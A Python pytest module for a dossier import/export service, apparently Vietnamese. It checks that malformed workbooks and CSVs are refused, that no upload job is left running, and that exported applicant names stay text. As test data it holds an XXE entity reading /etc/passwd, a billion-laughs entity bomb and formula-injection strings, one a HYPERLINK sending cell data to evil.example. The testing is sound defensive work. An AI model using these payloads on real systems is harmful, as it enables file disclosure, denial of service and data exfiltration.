"""Hostile dossier files: what a broken or malicious spreadsheet does to the import and
export paths (the dossier area's own tests cover good files and unsafe file names).

Every hostile file must end as a clear refusal — a code and a Vietnamese reason from
the parser, a finished ("failed") upload job — and never read a local file (XXE), run
an entity bomb, or leave a job "running" for ever.  Text that comes back out in an
export must stay text: a spreadsheet must not run a citizen's name as a formula."""

from __future__ import annotations

import contextlib
import io
import secrets
import time
import zipfile

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from server.cli import main as cli_main
from server.dossiers import importer
from server.dossiers.tables import read_table
from server.errors import MotcuaError
from tests.conftest import ROOT
from tests.dossier_fixtures import catalog, put

__all__ = ["catalog"]

SHEET = "xl/worksheets/sheet1.xml"


def _xlsx(*rows: list[str]) -> bytes:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["Mã hồ sơ", "Trạng thái", "Mã thủ tục", "Người nộp"])
    for row in rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


GOOD = _xlsx(["000.00.06.H56-261125-0001", "received", "STP-LLTP", "CELL"])


def _with_sheet(raw: bytes, rewrite) -> bytes:
    """The same workbook with its first sheet's XML rewritten."""
    src = zipfile.ZipFile(io.BytesIO(raw))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            dst.writestr(item.filename, rewrite(data) if item.filename == SHEET else data)
    return out.getvalue()


def _doctype(decl: str, cell: str):
    def rewrite(xml: bytes) -> bytes:
        body = xml[xml.index(b"<worksheet") :].replace(b">CELL<", f">{cell}<".encode())
        return f'<?xml version="1.0"?><!DOCTYPE worksheet [{decl}]>'.encode() + body

    return rewrite


_LOL = '<!ENTITY l0 "lol">' + "".join(
    f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
)


def _zip_of(**files: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in files.items():
            z.writestr(name, data)
    return out.getvalue()


FILES = {
    "truncated xlsx": GOOD[: len(GOOD) // 2],
    "a zip that is no workbook": _zip_of(**{"a.txt": b"x"}),
    "sheet XML not well-formed": _with_sheet(GOOD, lambda _: b"<worksheet><<<"),
    "billion laughs in the sheet": _with_sheet(GOOD, _doctype(_LOL, "&l9;")),
    "external entity (XXE)": _with_sheet(
        GOOD, _doctype('<!ENTITY x SYSTEM "file:///etc/passwd">', "&x;")
    ),
    "CSV with NUL bytes": b"code,status\n000.00.06.H56-261125-0002,rec\x00eived\n",
    "CSV field past the csv module's limit": b"code,status\n" + b"A" * 200_000 + b",received\n",
    "binary garbage": bytes(range(256)) * 64,
    "empty": b"",
    "header only": b"code,status\n",
    "UTF-16 without the right columns": "xin chào\n".encode("utf-16"),
}


@pytest.mark.parametrize("raw", list(FILES.values()), ids=list(FILES))
def test_hostile_files_are_refused_with_a_reason(catalog, raw):
    ctx = catalog
    name = "ho-so.xlsx" if raw[:2] == b"PK" else "ho-so.csv"
    try:
        report = importer.run_import(ctx.db, ctx.cfg, name, raw, actor="test", now=ctx.now())
    except MotcuaError as exc:
        assert exc.code and exc.message and exc.status == 400
        return
    # parsed: then nothing of it may be saved
    assert report.accepted == 0 or not report.committed
    with ctx.db.read() as conn:
        assert conn.execute("SELECT count(*) FROM dossier").fetchone()[0] == 0


def test_no_entity_ever_reads_a_local_file(catalog):
    """Whatever the parser does with an external entity, the file's text is not saved."""
    ctx = catalog
    local = ctx.data_dir / "local-secret.txt"  # a private file of the server's (either engine)
    secret = secrets.token_hex(16)
    local.write_text(secret)
    decl = f'<!ENTITY x SYSTEM "file://{local}">'
    raw = _with_sheet(GOOD, _doctype(decl, "&x;"))
    with contextlib.suppress(Exception):  # refused one way or another: what matters is below
        importer.run_import(ctx.db, ctx.cfg, "x.xlsx", raw, actor="test", now=ctx.now())
    with ctx.db.read() as conn:
        rows = conn.execute("SELECT * FROM dossier").fetchall()
    assert secret not in repr([tuple(r) for r in rows])


def test_an_upload_of_a_broken_workbook_ends_as_a_failed_job(client, catalog, actors):
    boss = actors.h(actors.supervisor)
    r = client.post(
        "/api/v1/dossiers/imports",
        data={"file": (io.BytesIO(GOOD[: len(GOOD) // 2]), "ho-so.xlsx")},
        headers=boss,
        content_type="multipart/form-data",
    )
    if r.status_code == 400:  # refused at once: as good as a failed job
        assert r.get_json()["error"]["code"]
        return
    job = r.get_json()["job"]
    deadline = time.monotonic() + 3
    while job["status"] == "running" and time.monotonic() < deadline:
        time.sleep(0.05)
        job = client.get(f"/api/v1/dossiers/imports/{job['id']}", headers=boss).get_json()["job"]
    assert job["status"] == "failed" and job["error"]["code"]


def test_the_cli_refuses_a_broken_workbook_without_a_traceback(tmp_path):
    broken = tmp_path / "ho-so.xlsx"
    broken.write_bytes(GOOD[: len(GOOD) // 2])
    args = ["--config", str(ROOT / "config.yaml"), "--data-dir", str(tmp_path / "data")]
    result = CliRunner().invoke(cli_main, ["import-dossiers", str(broken), *args])
    assert result.exit_code == 1
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Xem")', "+1+1", "@SUM(A1:A9)", "-2+3"]


def test_exported_names_stay_text_in_a_spreadsheet(client, catalog, actors):
    ctx = catalog
    for i, name in enumerate(FORMULAS):
        put(ctx, f"000.00.06.H56-261125-{i + 1:04d}", applicant=name)
    boss = actors.h(actors.supervisor)
    xlsx = client.get("/api/v1/dossiers/export?format=xlsx", headers=boss)
    assert xlsx.status_code == 200
    ws = load_workbook(io.BytesIO(xlsx.get_data())).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    csv = client.get("/api/v1/dossiers/export?format=csv", headers=boss).get_data(as_text=True)
    for name in FORMULAS:
        assert f",{name}," not in csv and f',"{name}",' not in csv.replace('""', '"')


def test_an_export_read_back_gives_the_names_as_typed(client, catalog, actors):
    """The apostrophe that keeps a formula-like name text in a spreadsheet is taken off
    again on import: exporting and importing a dossier does not change its applicant."""
    ctx = catalog
    names = [*FORMULAS, "'quoted on purpose", "Đặng Thị Ưng"]
    for i, name in enumerate(names):
        put(ctx, f"000.00.06.H56-261125-{i + 1:04d}", applicant=name)
    boss = actors.h(actors.supervisor)
    for fmt in ("csv", "xlsx"):
        raw = client.get(f"/api/v1/dossiers/export?format={fmt}", headers=boss).get_data()
        table = read_table(f"export.{fmt}", raw)
        assert sorted(row["applicant"] for _, row in table.rows) == sorted(names), fmt
